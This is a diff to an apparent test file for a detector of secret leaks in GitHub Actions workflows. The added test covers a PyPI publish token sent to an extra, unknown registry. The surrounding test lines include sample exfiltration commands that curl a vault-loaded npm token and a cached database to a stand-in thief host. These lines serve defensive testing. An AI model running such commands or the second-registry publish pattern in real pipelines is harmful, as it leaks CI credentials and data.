@@ -34,6 +34,18 @@ test('what an action mints or fetches from a vault is a secret', async () => {
   assert.ok(await judged(step('1password/load-secrets-action@v2', 'NPM: op://ci/npm/token', 'x', 'env') + run(`curl -d "$NPM" ${THIEF}`)))
 })
 
+test('what publishes at its own registry is shown to no other', async () => {
+  const upload = (url: string) =>
+    step(
+      'pypa/gh-action-pypi-publish@release/v1',
+      `password: \${{ secrets.PYPI_API_TOKEN }}${url === '' ? '' : `\nrepository-url: ${url}`}`,
+    )
+  assert.ok(await judged(upload('') + upload('https://up.collect.example/legacy/')))
+  assert.equal(await judged(upload('')), false)
+  assert.equal(await judged(upload('https://packages.linden.example/legacy/')), false)
+  assert.equal(await judged(upload('') + upload('https://test.pypi.org/legacy/')), false)
+})
+
 test('what one job keeps in a cache is there in the next', async () => {
   const other = (key: string) =>
     `${step('actions/cache/save@v4', `path: ~/.warm\nkey: k-1`)}  b:\n    needs: a\n    runs-on: ubuntu-latest\n    steps:\n${step('actions/cache/restore@v4', `path: ~/.warm\nkey: ${key}`)}${run(`curl -T ~/.warm/i.db ${THIEF}`)}`
